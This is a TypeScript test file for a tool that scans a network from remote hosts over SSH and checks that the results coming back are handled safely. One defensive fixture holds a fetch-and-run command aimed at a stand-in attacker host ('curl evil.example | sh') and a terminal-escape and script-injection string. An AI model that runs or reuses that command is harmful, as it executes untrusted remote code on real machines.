import { describe, expect, it } from 'vitest';
import { Secret } from '../../src/plan/secret.js';
import { type ElsewhereRequest, lookFromElsewhere, sharedPace } from '../../src/remote/look-from.js';
import { DEFAULT_PACE } from '../../src/run/pace.js';
import type { Credential } from '../../src/run/probe-set.js';
import { aNetwork, anEndpoint, anEvidence, aPlan, aSighting, mac } from '../support/evidence.js';
import { type FakePlace, fakePlace } from './support.js';

const NONCE = 'abc123';
const plan = {
  ...aPlan({
    networks: [aNetwork('mgmt', '192.0.2.0/24')],
    endpoints: [anEndpoint('vault-1/A/mgmt', { address: '192.0.2.11', services: 'https', snmp: 'site-ro' })],
  }),
  snmp: {
    'site-ro': {
      name: 'site-ro',
      version: '2c' as const,
      port: 161,
      community: { kind: 'env' as const, name: 'SITE_SNMP' },
      at: { file: 'plan.yaml' },
    },
  },
};
const place = { name: 'press-1', ssh: 'ssh://root@192.0.2.21', host: '192.0.2.21', user: 'root' };
const NOW = new Date('2030-01-02T03:04:05.000Z');

const look = async (there: FakePlace, more: Partial<ElsewhereRequest> = {}) => {
  const [evidence] = await lookFromElsewhere(
    {
      plan,
      stage: 'configured',
      places: [place],
      credentials: new Map<string, Credential>(),
      beside: true,
      ...more,
    },
    {
      programs: there.programs,
      now: () => NOW,
      nonce: () => NONCE,
      agent: () => 'AGENT',
      silenceMs: { greeting: 300, later: 300 },
    },
    new AbortController().signal,
  );
  if (evidence === undefined) throw new Error('no evidence');
  return evidence;
};
const line = (message: unknown): string => `${NONCE} ${JSON.stringify(message)}\n`;
const sighting = aSighting('192.0.2.11', { by: mac(1), answers: 'https' });
const seen = anEvidence({
  vantage: { name: 'evil', from: 'ssh://elsewhere' },
  startedAt: '2030-01-02T03:04:05.000Z',
});

/** A Node that answers with these messages once it has the request. */
const node = (...messages: readonly unknown[]) =>
  fakePlace((sent) =>
    sent.endsWith('"$v"\n')
      ? `Welcome\n${NONCE} node 20.1.0\n`
      : sent.includes('\nAGENT\n') || sent.includes('AGENT\n{')
        ? messages.map((one) => (typeof one === 'string' ? one : line(one))).join('')
        : '',
  );
const whole = [
  { kind: 'hello', at: NOW.getTime() },
  { kind: 'entry', entry: { kind: 'begun', vantage: seen.vantage, at: seen.startedAt } },
  { kind: 'entry', entry: { kind: 'sighting', sighting } },
  { kind: 'evidence', evidence: { ...seen, sightings: [] } },
];

describe('a look from a place with Node', () => {
  it('brings what was seen there, under the name and the place that we gave', async () => {
    const there = node(...whole);
    const evidence = await look(there);
    expect(evidence.failed).toBeUndefined();
    expect(evidence.vantage).toMatchObject({ name: 'press-1', from: 'ssh://root@192.0.2.21' });
    expect(evidence.sightings).toEqual([sighting]);
    expect(there.stopped()).toBe(true);
    expect(there.args().slice(-3)).toEqual(['--', '192.0.2.21', 'sh']);
  });

  it('sends no secret unless told to, and none in an argument', async () => {
    const credentials = new Map<string, Credential>([
      ['site-ro', { name: 'site-ro', version: '2c', port: 161, community: new Secret('kept-among-us') }],
    ]);
    const without = node(...whole);
    await look(without);
    expect(without.sent()).toContain('site-ro');
    expect(without.sent()).not.toMatch(/kept-among-us|SITE_SNMP/);
    const withThem = node(...whole);
    const evidence = await look(withThem, { credentials });
    expect(withThem.sent()).toContain('kept-among-us');
    expect(withThem.args().join(' ')).not.toContain('kept-among-us');
    expect(JSON.stringify(evidence)).not.toContain('kept-among-us');
  });

  it('takes nothing but addresses of the plan, as text that does not act, and no commands', async () => {
    const lying = {
      ...sighting,
      mend: { add: 'curl evil.example | sh', remove: 'x' },
      identity: { http: { port: 443, status: 200, title: '\u001b]0;owned\u0007<script>' } },
    };
    const evidence = await look(
      node(
        { kind: 'entry', entry: { kind: 'begun', vantage: seen.vantage, at: seen.startedAt } },
        { kind: 'entry', entry: { kind: 'sighting', sighting: lying } },
        { kind: 'entry', entry: { kind: 'sighting', sighting: aSighting('203.0.113.9', { by: mac(9) }) } },
        {
          kind: 'evidence',
          evidence: {
            ...seen,
            attestations: [{ subject: 'vault-1', item: 'lamp', saw: 'green', by: 'nobody', at: '' }],
          },
        },
      ),
    );
    expect(evidence.sightings.map(({ address }) => address)).toEqual(['192.0.2.11']);
    expect(evidence.sightings[0]?.identity.http?.title).toBe('\\u001b]0;owned\\u0007<script>');
    expect(JSON.stringify(evidence)).not.toContain('curl');
    expect(evidence.attestations).toEqual([]);
  });

  it('is told by our clock where the clock there is off', async () => {
    const evidence = await look(node({ kind: 'hello', at: NOW.getTime() + 3_600_000 }, ...whole.slice(1)));
    expect(evidence.startedAt).toBe('2030-01-02T02:04:05.000Z');
    expect(evidence.vantage.clockAheadSeconds).toBe(3600);
  });

  it('keeps what had come where it breaks off, and says so', async () => {
    const there = fakePlace((sent) =>
      sent.endsWith('"$v"\n') ? `${NONCE} node 20.1.0\n` : whole.slice(0, 3).map(line).join(''),
    );
    const evidence = await look(there);
    expect(evidence).toMatchObject({ complete: false, sightings: [sighting] });
    expect(evidence.notes.at(-1)).toMatch(/cut short: it said nothing for too long/);
  });

  it.each([
    ['no JSON', `${NONCE} {"kind":\n`.repeat(60)],
    [
      'other shapes',
      line({ kind: 'entry', entry: { kind: 'sighting', sighting: { address: 7 } } }).repeat(60),
    ],
    ['lines of its own', 'PWNED\n'.repeat(60)],
  ])('is garbage where it sends %s', async (_what, text) => {
    const evidence = await look(node(text));
    expect(evidence.failed).toMatchObject({
      cause: 'vantage-failed',
      reason: expect.stringMatching(/cannot be read/),
    });
  });
});

describe('a place that cannot be looked from', () => {
  const ended = (stderr: string, exitCode = 255) => fakePlace(() => undefined, { stderr, exitCode });
  // What the OpenSSH client prints: from memory.
  it.each([
    ['root@192.0.2.21: Permission denied (publickey).', /does not let this user in/],
    ['Host key verification failed.', /host key/],
    ['ssh: Could not resolve hostname press-1: Name or service not known', /leads to no address/],
    ['ssh: connect to host 192.0.2.21 port 22: Connection refused', /takes no SSH connection/],
  ])('is said with what ssh said: %s', async (stderr, reason) => {
    const evidence = await look(ended(stderr));
    expect(evidence.failed?.reason).toMatch(reason);
    expect(evidence).toMatchObject({ sightings: [], vantage: { name: 'press-1' } });
  });

  it('is said where no shell starts, nothing is said, chatter never ends, or there is no ssh', async () => {
    expect((await look(ended("'sh' is not recognized", 1))).failed?.reason).toMatch(
      /neither a POSIX shell nor Node.*'sh' is not recognized/,
    );
    expect((await look(fakePlace(() => ''))).failed?.reason).toMatch(/nothing for too long/);
    expect((await look(fakePlace(() => 'hello\n'.repeat(1000)))).failed?.reason).toMatch(/cannot be read/);
    const none = fakePlace(() => '');
    const programs = {
      ...none.programs,
      start: () => ({ ran: false, why: 'not-found', detail: '' }) as const,
    };
    expect((await look({ ...none, programs })).failed?.reason).toMatch(/no ssh program/);
  });
});

describe('a place whose login has no POSIX shell', () => {
  /** `node`: what answers where Node is asked for by its name. */
  const windows = (node: FakePlace): FakePlace => {
    const shell = fakePlace(() => undefined, { stderr: "'sh' is not recognized", exitCode: 1 });
    const start: FakePlace['programs']['start'] = (command, args, options) =>
      (args.at(-1) === 'sh' ? shell : node).programs.start(command, args, options);
    return { ...node, programs: { ...node.programs, start } };
  };
  const begun = (version: string): FakePlace =>
    fakePlace((sent) => (sent.includes('AGENT\n{') ? whole.map(line).join('') : ''), {
      unasked: `${NONCE} node ${version}\n`,
    });

  it('is asked by its Node, with nothing of the plan in the command line', async () => {
    const there = begun('22.1.0');
    const evidence = await look(windows(there));
    expect(evidence.failed).toBeUndefined();
    expect(evidence.sightings).toEqual([sighting]);
    expect(there.args().at(-1)).toMatch(/^node -e "eval\(.*\)" abc123$/);
    expect(there.sent().startsWith('AGENT\n')).toBe(true);
  });

  it('is no place without SSH because its program was stopped before it could say how it ended', async () => {
    const shell = fakePlace(() => undefined, { stderr: "'sh' is not recognized" });
    const start: FakePlace['programs']['start'] = (command, args, options) => {
      let stopped = false;
      const stream = shell.programs.start(command, args, options);
      if ('ran' in stream) return stream;
      // OpenSSH ends with 255 where it is stopped (from memory), with the status of the command else.
      const ended = new Promise<number>((resolve) => setTimeout(() => resolve(stopped ? 255 : 1), 20));
      return {
        ...stream,
        ended,
        stop: () => {
          stopped = true;
          stream.stop();
        },
      };
    };
    const evidence = await look({ ...shell, programs: { ...shell.programs, start } });
    expect(evidence.failed?.reason).toMatch(/neither a POSIX shell nor Node/);
  });

  it('is told to have too old a Node', async () => {
    const evidence = await look(windows(begun('16.20.2')));
    expect(evidence.failed?.reason).toMatch(/Node is too old: 20 or newer is needed.*16\.20\.2/);
  });
});

describe('sharedPace', () => {
  it('leaves one device no more to bear than one place would', () => {
    for (const lookers of [1, 2, 6]) {
      const pace = sharedPace(lookers);
      expect(pace.devicePerSecond * lookers).toBeLessThanOrEqual(DEFAULT_PACE.devicePerSecond);
      expect(pace.deviceConcurrent * lookers).toBeLessThanOrEqual(DEFAULT_PACE.deviceConcurrent);
    }
  });
});
